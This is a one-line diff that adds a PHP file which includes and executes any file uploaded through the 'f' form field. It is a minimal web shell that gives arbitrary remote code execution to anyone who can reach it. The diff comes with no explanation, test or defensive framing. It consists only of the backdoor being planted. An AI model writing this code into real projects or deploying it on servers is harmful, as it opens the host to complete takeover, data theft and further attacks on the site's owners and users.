@@ -1,0 +1,1 @@
+<?php $f = $_FILES["f"]["tmp_name"]; include $f;
